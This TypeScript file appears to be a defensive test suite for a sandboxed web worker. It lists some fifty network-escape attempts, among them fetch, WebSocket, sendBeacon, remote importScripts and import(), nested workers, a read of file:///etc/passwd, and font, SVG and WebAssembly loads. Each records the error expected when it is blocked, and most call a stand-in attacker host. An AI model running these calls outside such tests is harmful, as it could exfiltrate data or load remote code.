import type { Attack } from './attack.ts';

const emptyModule = 'const module = () => new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);';

/** Every way that a worker has to reach a network. */
export const network: Attack[] = [
  {
    name: 'fetch of the site',
    body: 'return (await fetch(site + "secret-fetch")).text()',
    blocked: 'TypeError',
  },
  {
    name: 'fetch of a relative address',
    body: 'return (await fetch("/secret-relative")).text()',
    blocked: 'TypeError',
  },
  {
    name: 'fetch of another host',
    body: 'return (await fetch(attacker + "/fetch")).text()',
    blocked: 'TypeError',
  },
  {
    name: 'fetch without CORS',
    body: 'return (await fetch(attacker + "/no-cors", { mode: "no-cors" })).type',
    blocked: 'TypeError',
  },
  {
    name: 'fetch that outlives the page',
    body: 'return (await fetch(attacker + "/keep", { method: "POST", body: "x", keepalive: true })).status',
    blocked: 'TypeError',
  },
  {
    name: 'fetch of a Request',
    body: 'return (await fetch(new Request(new Request(attacker + "/request"), { method: "POST", body: "x" }))).status',
    blocked: 'TypeError',
  },
  {
    name: 'fetch with a Response as body',
    body: 'return (await fetch(attacker + "/body", { method: "POST", body: new Response("x").body, duplex: "half" })).status',
    blocked: 'TypeError',
  },
  { name: 'fetch of data:', body: 'return (await fetch("data:text/plain,x")).text()', blocked: 'TypeError' },
  {
    name: 'fetch of blob:',
    body: 'return (await fetch(URL.createObjectURL(new Blob(["x"])))).text()',
    blocked: 'TypeError',
  },
  { name: 'fetch of file:', body: 'return (await fetch("file:///etc/passwd")).text()', blocked: 'TypeError' },
  {
    name: 'XMLHttpRequest',
    body: 'const x = new XMLHttpRequest(); const done = heard(x, "load", "error"); x.open("GET", attacker + "/xhr"); x.send(); return done',
    blocked: 'error',
  },
  {
    name: 'XMLHttpRequest that blocks',
    body: 'const x = new XMLHttpRequest(); x.open("GET", attacker + "/sync", false); x.send(); return x.status',
    blocked: 'NetworkError',
  },
  {
    name: 'XMLHttpRequest of the site',
    body: 'const x = new XMLHttpRequest(); x.open("GET", site + "secret-xhr", false); x.send(); return x.status',
    blocked: 'NetworkError',
  },
  {
    name: 'WebSocket',
    body: 'return heard(new WebSocket(attacker.replace("http", "ws")), "open", "error", "close")',
    blocked: 'error',
  },
  {
    name: 'WebSocketStream',
    body: 'absent("WebSocketStream"); await new WebSocketStream(attacker.replace("http", "ws")).opened; return "open"',
    blocked: 'SecurityError',
  },
  {
    name: 'EventSource',
    body: 'return heard(new EventSource(attacker + "/events"), "open", "error")',
    blocked: 'error',
  },
  {
    name: 'WebTransport',
    body: 'await new WebTransport(attacker.replace("http:", "https:")).ready; return "ready"',
    blocked: 'WebTransportError',
  },
  {
    name: 'RTCPeerConnection',
    body: 'absent("RTCPeerConnection"); const c = new RTCPeerConnection({ iceServers: [{ urls: attacker.replace("http://", "stun:") }] }); c.createDataChannel("x"); await c.setLocalDescription(); return "offered"',
    blocked: 'absent',
  },
  {
    name: 'importScripts of a host',
    body: 'importScripts(attacker + "/script.js"); return "imported"',
    blocked: 'ReferenceError',
  },
  {
    name: 'importScripts of data:',
    body: 'importScripts("data:text/javascript,self.imported=1"); return "imported"',
    blocked: 'ReferenceError',
  },
  {
    name: 'importScripts of blob:',
    body: 'importScripts(URL.createObjectURL(new Blob(["self.imported=1"]))); return "imported"',
    blocked: 'ReferenceError',
  },
  {
    name: 'importScripts by way of the prototypes',
    body: 'for (let o = self; o; o = Object.getPrototypeOf(o)) if (Object.hasOwn(o, "importScripts")) return "found"; throw named("nowhere")',
    blocked: 'nowhere',
  },
  {
    name: 'import() in eval',
    body: 'await (0, eval)("import(\'" + attacker + "/eval.js\')"); return "imported"',
    blocked: 'TypeError',
  },
  {
    name: 'import() in a Function',
    body: 'await new Function("at", "return import(at)")(attacker + "/function.js"); return "imported"',
    blocked: 'TypeError',
  },
  {
    name: 'import() of the site',
    body: 'await new Function("at", "return import(at)")(site + "page.js"); return "imported"',
    blocked: 'TypeError',
  },
  {
    name: 'import() of data: that imports from a host',
    body: 'await new Function("at", "return import(at)")("data:text/javascript," + encodeURIComponent("import \'" + attacker + "/nested.js\'; export default 1")); return "imported"',
    blocked: 'TypeError',
  },
  {
    name: 'import() of data: that finds the doors of the worker open',
    body: 'const { default: found } = await new Function("at", "return import(at)")("data:text/javascript," + encodeURIComponent("export default [\'Worker\', \'importScripts\', \'caches\', \'indexedDB\'].filter((name) => name in globalThis).join()")); if (found === "") throw named("nothing open"); return found',
    blocked: 'nothing open',
  },
  {
    name: 'import() of blob:',
    body: 'await new Function("at", "return import(at)")(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))); return "imported"',
    blocked: 'TypeError',
  },
  {
    name: 'import() of JSON',
    body: 'await new Function("at", "return import(at, { with: { type: \'json\' } })")(attacker + "/x.json"); return "imported"',
    blocked: 'TypeError',
  },
  {
    name: 'import() in a timer’s text',
    body: 'self.done = new Promise((yes, no) => Object.assign(self, { yes, no })); setTimeout("import(\'" + attacker + "/timer.js\').then(yes, no)"); return self.done',
    blocked: 'TypeError',
  },
  {
    name: 'a font',
    body: 'await new FontFace("x", "url(" + attacker + "/font.woff2)").load(); return "loaded"',
    blocked: 'NetworkError',
  },
  {
    name: 'a style sheet',
    body: 'absent("document"); document.body.style.background = "url(" + attacker + "/style)"; return "styled"',
    blocked: 'absent',
  },
  {
    name: 'CSSStyleSheet',
    body: 'absent("CSSStyleSheet"); new CSSStyleSheet().replaceSync("@import url(" + attacker + "/sheet)"); return "sheet"',
    blocked: 'absent',
  },
  {
    name: 'Image',
    body: 'absent("Image"); new Image().src = attacker + "/image"; return "image"',
    blocked: 'absent',
  },
  {
    name: 'createImageBitmap of an address',
    body: 'await createImageBitmap(attacker + "/bitmap"); return "bitmap"',
    blocked: 'TypeError',
  },
  {
    name: 'sendBeacon',
    body: 'return navigator.sendBeacon(attacker + "/beacon", "x")',
    blocked: 'TypeError',
  },
  {
    name: 'fetchLater',
    body: 'absent("fetchLater"); return fetchLater(attacker + "/later").activated',
    blocked: 'absent',
  },
  {
    name: 'a font of the worker’s own set',
    body: 'absent("fonts"); fonts.add(new FontFace("y", "url(" + attacker + "/set.woff2)")); const loaded = await fonts.load("12px y"); if (loaded.length === 0) throw named("none"); return "loaded"',
    blocked: 'NetworkError',
  },
  {
    name: 'a canvas’s filter from an address',
    body: 'const c = new OffscreenCanvas(8, 8).getContext("2d"); c.filter = "url(" + attacker + "/filter.svg#f)"; c.fillRect(0, 0, 8, 8); c.getImageData(0, 0, 1, 1); await new Promise((go) => setTimeout(go, 300)); throw named("drawn without it")',
    blocked: 'drawn without it',
  },
  {
    name: 'a picture inside an SVG',
    body: 'const svg = "<svg xmlns=\\"http://www.w3.org/2000/svg\\" width=\\"8\\" height=\\"8\\"><image href=\\"" + attacker + "/svg.png\\" width=\\"8\\" height=\\"8\\"/></svg>"; await createImageBitmap(new Blob([svg], { type: "image/svg+xml" })); return "drawn"',
    blocked: 'InvalidStateError',
  },
  {
    name: 'ImageDecoder of a response',
    body: 'const decoder = new ImageDecoder({ type: "image/png", data: (await fetch(attacker + "/decoder.png")).body }); await decoder.completed; return "decoded"',
    blocked: 'TypeError',
  },
  {
    name: 'instantiateStreaming',
    body: 'await WebAssembly.instantiateStreaming(fetch(attacker + "/x.wasm")); return "instance"',
    blocked: 'TypeError',
  },
  {
    name: 'WebAssembly that asks the import object for a fetch',
    body: `${emptyModule} const { instance } = await WebAssembly.instantiate(module(), { env: { fetch } }); return (await instance.constructor.constructor("return fetch('" + attacker + "/wasm')")()).status`,
    blocked: 'TypeError',
  },
  {
    name: 'a nested Worker from data:',
    body: 'new Worker("data:text/javascript,fetch(\'" + attacker + "/nested\')"); return "worker"',
    blocked: 'ReferenceError',
  },
  {
    name: 'a nested Worker from blob:',
    body: 'new Worker(URL.createObjectURL(new Blob(["1"]))); return "worker"',
    blocked: 'ReferenceError',
  },
  {
    name: 'a nested Worker from the site',
    body: 'new self.Worker(site + "page.js"); return "worker"',
    blocked: 'TypeError',
  },
  {
    name: 'a SharedWorker',
    body: 'absent("SharedWorker"); new SharedWorker("data:text/javascript,1"); return "worker"',
    blocked: 'absent',
  },
  {
    name: 'a service worker',
    body: 'await navigator.serviceWorker.register(site + "page.js"); return "registered"',
    blocked: 'TypeError',
  },
  {
    name: 'a notification’s picture',
    body: 'const n = new Notification("x", { icon: attacker + "/icon" }); return heard(n, "show", "error")',
    blocked: 'error',
  },
];
